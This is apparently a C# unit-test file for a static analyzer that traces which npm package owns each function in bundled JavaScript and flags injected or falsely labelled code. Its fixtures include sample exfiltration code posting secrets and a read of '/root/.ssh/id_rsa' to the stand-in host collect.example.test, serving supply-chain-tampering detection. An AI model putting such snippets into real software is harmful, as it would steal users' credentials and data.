using System.Runtime.CompilerServices;
using System.Text;
using Mtf.Artifacts;
using Mtf.Flow;
using Mtf.Flow.Facts;
using Mtf.Flow.Graph;
using Mtf.Flow.JavaScript;
using Mtf.Flow.Origins;
using Xunit;

namespace Mtf.Tests.Flow.Origins;

public sealed class FileOriginsTests
{
    private const string Library = "parcel-post";
    private const string Stolen = "export function track(keys) { return fetch(\"https://collect.example.test\", { method: \"POST\", body: keys.secret }); }\n";

    private static FingerprintIndex Index { get; } = BuildIndex();

    [Theory]
    [InlineData("bundle.js.txt")]
    [InlineData("minified.js.txt")]
    [InlineData("minified.cjs.txt")]
    public void A_bundled_copy_is_recognised_without_its_markers(string file)
    {
        var owners = Owners("dist.js", WithoutMarkers(Data(file)));
        foreach (var part in (string[])["too little", "gram", "delivered", "stamps.length", "parsed"])
        {
            Assert.Equal(new CodeOwner(Library, OwnerEvidence.Verified), owners.Around(part));
        }

        Assert.Equal(CodeOwner.Own, owners.Around("announcements"));
        Assert.Equal(CodeOwner.Own, owners.Around("disk"));
        Assert.Equal(CodeOwner.Own, owners.Around("du -sh"));
    }

    [Fact]
    public void A_function_put_into_a_copy_is_unexplained()
    {
        var bundle = WithoutMarkers(Data("bundle.js.txt"));
        var at = bundle.IndexOf("function barcode", StringComparison.Ordinal);
        var owners = Owners("dist.js", bundle.Insert(at, Stolen.Replace("export ", "", StringComparison.Ordinal)));
        Assert.Equal(new CodeOwner(Library, OwnerEvidence.Unexplained), owners.Around("collect.example.test"));
        Assert.Equal(new CodeOwner(Library, OwnerEvidence.Verified), owners.Around("stamps.length"));
    }

    [Fact]
    public void A_changed_function_is_unexplained()
    {
        var changed = Data("library/index.js.txt").Replace("return carrier.dispatch", "fetch(\"https://collect.example.test\", { body: parcel.recipient }); return carrier.dispatch", StringComparison.Ordinal);
        var owners = Owners($"node_modules/{Library}/index.js", changed);
        Assert.Equal(OwnerEvidence.Unexplained, owners.Around("collect.example.test").Evidence);
        Assert.Equal(OwnerEvidence.Verified, owners.Around("too little").Evidence);
    }

    [Theory]
    [InlineData("// node_modules/parcel-post/index.js\n", "dist.js")]
    [InlineData("", "node_modules/parcel-post/index.js")]
    [InlineData("//#region node_modules/parcel-post/index.js\n", "dist.js")]
    public void A_false_name_is_contradicted(string marker, string path) =>
        Assert.Equal(new CodeOwner(Library, OwnerEvidence.Contradicted), Owners(path, marker + Stolen).Around("collect.example.test"));

    [Fact]
    public void A_false_source_map_is_contradicted()
    {
        var map = SourceMap.Parse(Encoding.UTF8.GetBytes("{\"sources\":[\"../node_modules/parcel-post/index.js\"],\"mappings\":\"AAAA\"}"));
        Assert.Equal(new CodeOwner(Library, OwnerEvidence.Contradicted), new Owned("dist.js", Stolen, map).Around("collect.example.test"));
    }

    [Fact]
    public void The_name_of_an_unknown_package_is_a_claim() =>
        Assert.Equal(new CodeOwner("left-behind", OwnerEvidence.Claimed), Owners("node_modules/left-behind/index.js", Stolen).Around("collect.example.test"));

    [Fact]
    public void A_function_too_small_to_compare_is_never_verified()
    {
        var owners = Owners($"node_modules/{Library}/index.js", Data("library/index.js.txt") + "const run = (a) => eval(a);\nconst go = (a, b) => a(b);\n");
        Assert.Equal(OwnerEvidence.Unexplained, owners.Around("eval(").Evidence);
        Assert.Equal(OwnerEvidence.Claimed, owners.Around("a(b)").Evidence);
    }

    [Fact]
    public void Own_code_among_code_of_a_library_stays_own()
    {
        var library = WithoutMarkers(Data("library/index.js.txt")).Replace("export ", "", StringComparison.Ordinal);
        var own = string.Concat(Enumerable.Range(0, 20).Select(number => $"function step{number}(task) {{ task.plan{number}(task.budget, \"phase {number}\"); return task.outcome{number}; }}\n"));
        var owners = Owners("dist.js", library + own + Stolen + Data("library/lib/labels.js.txt"));
        Assert.Equal(CodeOwner.Own, owners.Around("phase 7"));
        Assert.Equal(CodeOwner.Own, owners.Around("collect.example.test"));
    }

    [Fact]
    public void An_index_is_read_as_it_was_written()
    {
        using var stream = new MemoryStream();
        Index.Write(stream);
        stream.Position = 0;
        var read = FingerprintIndex.Read(stream);
        Assert.Equal(Index.Packages, read.Packages);
        Assert.Equal(Index.Count, read.Count);
        var hash = FunctionFeatures.Of(Lower("a.js", Data("library/index.js.txt"))).HashOf(1);
        Assert.Equal(Index.OwnersOf(hash).ToArray(), read.OwnersOf(hash).ToArray());
        Assert.NotEmpty(read.OwnersOf(hash).ToArray());
    }

    [Fact]
    public void The_built_in_index_knows_what_servers_bundle()
    {
        foreach (var name in (string[])["@modelcontextprotocol/sdk", "zod", "ajv", "axios", "express", "undici", "follow-redirects", "cross-spawn", "jose"])
        {
            Assert.True(FingerprintIndex.Default.IdOf(name) >= 0, name);
        }

        Assert.All(FingerprintIndex.Default.Packages, package => Assert.NotEmpty(package.Versions));
    }

    [Fact]
    public void A_flow_under_a_false_name_is_found_and_shown_as_contradicted()
    {
        using var tree = new MemoryTree(("index.js", "import fs from 'fs';\n// node_modules/axios/index.js\nfunction send(rest) { fetch('https://collect.example.test', { method: 'POST', body: rest.keys }); }\nclass Store { keep(v) { this.keys = v; } flush() { send(this); } }\nconst s = new Store();\n// src/main.js\ns.keep(fs.readFileSync('/root/.ssh/id_rsa'));\ns.flush();\n"));
        var flow = Assert.Single(StaticAnalyzer.Analyze(tree, []).Flows, flow => flow is { Source: "file.secret", Sink: "network" });
        Assert.Equal(("axios", OwnerEvidence.Contradicted), (flow.Context.Owner, flow.Context.Evidence));
    }

    private static Owned Owners(string path, string source) => new(path, source, null);

    private static FingerprintIndex BuildIndex()
    {
        var builder = new FingerprintIndexBuilder();
        builder.Add(Library, "1.0.0", "Apache-2.0", [], [Lower("index.js", Data("library/index.js.txt")), Lower("lib/labels.js", Data("library/lib/labels.js.txt"))]);
        return builder.Build();
    }

    private static string WithoutMarkers(string source) => string.Join('\n', source.Split('\n').Where(line => !line.StartsWith("// ", StringComparison.Ordinal)));

    private static ModuleGraph Lower(string path, string source) => JavaScriptFrontEnd.Lower(path, SourceLanguage.JavaScript, source);

    private static string Data(string name, [CallerFilePath] string path = "") => File.ReadAllText(Path.Combine(Path.GetDirectoryName(path)!, "../../data/origins", name)).ReplaceLineEndings("\n");

    private sealed class Owned
    {
        private readonly string source;
        private readonly ModuleGraph graph;
        private readonly FileOrigins origins;

        public Owned(string path, string source, SourceMap? map)
        {
            this.source = source;
            graph = Lower(path, source);
            Assert.Empty(graph.Gaps);
            origins = new FileOrigins(graph, new OwnerClaims(path, source, map), Index);
        }

        /// <summary>Owner of the innermost function around the first place of a text.</summary>
        public CodeOwner Around(string text)
        {
            var at = source.IndexOf(text, StringComparison.Ordinal);
            Assert.True(at >= 0, text);
            var function = Enumerable.Range(1, graph.Functions.Count - 1)
                .Where(id => graph.Functions[id].StartPosition <= at && at < graph.Functions[id].EndPosition)
                .MaxBy(id => graph.Functions[id].StartPosition);
            return origins.At(function, at);
        }
    }
}
